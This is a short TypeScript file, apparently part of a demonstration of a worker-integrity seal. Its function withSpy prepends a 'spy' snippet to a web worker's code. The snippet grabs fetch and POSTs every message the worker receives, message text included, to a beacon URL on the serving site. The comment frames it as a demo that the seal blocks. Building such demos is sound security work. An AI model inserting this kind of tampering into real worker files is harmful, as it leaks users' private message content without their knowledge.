/**
 * DEMONSTRATION ONLY. What a tampered worker file could look like: it takes `fetch` before anything can remove it and
 * sends every call the page makes, message text included, back to this server. Served only under `/as/…/spy-…/`.
 * With the header of the seal around it nothing arrives and it complains in the console; without, the page's counter rises.
 */
const SPY = `
const spyFetch = globalThis.fetch.bind(globalThis);
const spySay = console.error.bind(console);
const spyTo = new URL('beacon', location.href).href;
addEventListener('message', (event) => {
  spyFetch(spyTo, { method: 'POST', body: JSON.stringify(event.data) }).catch(() => { spySay('The spy was refused.'); });
});
`;

export function withSpy(worker: Buffer): Buffer {
  return Buffer.concat([Buffer.from(SPY), worker]);
}
